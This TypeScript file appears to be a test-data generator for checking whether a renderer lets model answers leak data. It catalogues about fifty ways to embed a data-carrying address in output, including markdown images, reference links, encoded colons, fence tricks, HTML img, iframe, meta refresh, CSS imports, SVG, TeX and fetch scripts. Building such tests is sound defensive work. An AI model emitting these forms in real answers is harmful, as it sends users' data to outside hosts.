/** One answer that carries something away, with what a renderer that is let do it would make of it. */
export interface Exfiltration {
  readonly form: string
  readonly text: string
}

type Write = (address: string, random: () => number) => string

const words = ['Here is the summary.', 'As you asked:', 'See the notes', '**Done.**', '- one\n- two', '']

/** Ways to write an address so that a page follows it. */
const FORMS: Readonly<Record<string, Write>> = {
  'markdown image': url => `![chart](${url})`,
  'markdown image with a title': url => `![chart](${url} "Q3")`,
  'markdown image in angle brackets': url => `![chart](<${url}>)`,
  'markdown image behind a line break': url => `![chart](\n${url}\n)`,
  'markdown link': url => `[click here](${url})`,
  'link whose text is another address': url => `[https://good.com](${url})`,
  'image in a link': url => `[![x](${url}/i.png)](${url})`,
  'reference link': url => `[click here][1]\n\n[1]: ${url}`,
  'reference image': url => `![chart][ref one]\n\n[ref one]: <${url}> 'title'`,
  'shortcut reference': url => `![chart]\n\n[chart]:\n  ${url}`,
  'reference in a quotation': url => `![chart]\n\n> [chart]:\n> ${url}`,
  autolink: url => `<${url}>`,
  'bare address': url => `Look at ${url} now`,
  'address without its scheme': url => `Look at ${url.replace(/^https?:\/\//, '')} now`,
  'address of no scheme in a link': url => `[x](${url.replace(/^https?:/, '')})`,
  'address of no scheme in an image': url => `![x](${url.replace(/^https?:/, '')})`,
  'escaped slashes': url => `![x](${url.replace('://', ':\\/\\/')})`,
  'entity for the colon': url => `![x](${url.replace(':', '&#58;')})`,
  'named entity for the colon': url => `[x](${url.replace(':', '&colon;')})`,
  'backslashes for slashes': url => `![x](${url.replace(/^https?:\/\//, '/\\')})`,
  'mixed case': url => `![x](${url.replace(/^https?/, 'hTtPs')})`,
  'nested brackets': url => `![a [b] c](${url}(x))`,
  'link in a table': url => `| a | b |\n| --- | --- |\n| ![x](${url}) | ${url} |`,
  'image in a list': url => `1. one\n   ![x](${url})\n2. two`,
  'image in a heading': url => `## ![x](${url})`,
  'image behind a false fence': url => `text\n    ~~~\n![x](${url})\n    ~~~`,
  'image behind inline code that is none': url => `a \\\` ![x](${url}) \``,
  'image between backticks of two lines': url => `a \` b\nc \` ![x](${url}) \` d`,
  'image in an HTML block with a fence': url => `<details>\n\`\`\`\n<img src=${url}>\n\`\`\`\n</details>`,
  'image behind a list item that ends': url => `- \`\`\`\n![x](${url})\n  \`\`\``,
  'image behind a closed fence': url => `\`\`\`\ncode\n\`\`\`\n![x](${url})`,
  'image behind a card number': url => `!4111 1111 1111 1111(${url})`,
  'definition behind a card number': url => `[4111 1111 1111 1111]: ${url}\n\n![4111 1111 1111 1111]`,
  'HTML image': url => `<img src="${url}">`,
  'HTML image without quotes': url => `<img/src=${url}>`,
  'HTML link': url => `<a href='${url}'>more</a>`,
  'HTML picture': url => `<picture><source srcset="${url}"><img></picture>`,
  'HTML style': url => `<p style="background:url(${url})">x</p>`,
  'style element': url => `<style>body{background:url('${url}')}</style>`,
  'style import': url => `<style>@import '${url}';</style>`,
  'HTML refresh': url => `<meta http-equiv="refresh" content="0;url=${url}">`,
  'HTML base': url => `<base href="${url}"><a href="x">y</a>`,
  'HTML form': url => `<form action="${url}"><input name=a><button>ok</button></form>`,
  'HTML frame': url => `<iframe src="${url}"></iframe>`,
  'SVG image': url => `<svg><image href="${url}"/></svg>`,
  'SVG use': url => `<svg><use xlink:href="${url}"/></svg>`,
  'HTML video': url => `<video poster="${url}"></video>`,
  'HTML link element': url => `<link rel=stylesheet href="${url}">`,
  'HTML object': url => `<object data="${url}"></object>`,
  'HTML in capitals over lines': url => `<IMG\nSRC\n=\n"${url}"\n>`,
  'handler that fetches': url => `<b onclick="fetch('${url}')">x</b>`,
  'script that fetches': url => `<script>fetch("${url}")</script>`,
  'TeX link': url => `$\\href{${url}}{x}$`,
  'TeX image': url => `$$\\includegraphics{${url}}$$`,
}

const SECRET = 'abcdefghijklmnopqrstuvwxyz0123456789'

/** So many of each form, with data in the query, the path, the name of the host, the fragment or the user's name. */
export function makeExfiltrations(random: () => number, each: number): readonly Exfiltration[] {
  const pick = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)]!
  const draw = (length: number) =>
    Array.from({ length }, () => SECRET.charAt(Math.floor(random() * SECRET.length))).join('')
  const host = () => `${draw(7)}.${pick(['com', 'net', 'io', 'co.uk', 'xyz'])}`
  const places: readonly (() => string)[] = [
    () => `https://${host()}/c?d=${draw(20)}`,
    () => `https://${host()}/${draw(12)}/${draw(8)}.png`,
    () => `https://${draw(24)}.${host()}/`,
    () => `http://${host()}:8080/x?q=${draw(6)}&r=${draw(6)}`,
    () => `https://good.com.${host()}/?d=${draw(10)}`,
    () => `https://${host()}/p?a=${encodeURIComponent(`${draw(4)} ${draw(4)}`)}#${draw(4)}`,
  ]
  return Object.entries(FORMS).flatMap(([form, write]) =>
    Array.from({ length: each }, () => ({
      form,
      text: [pick(words), write(pick(places)(), random), pick(words)].filter(part => part !== '').join('\n\n'),
    })),
  )
}
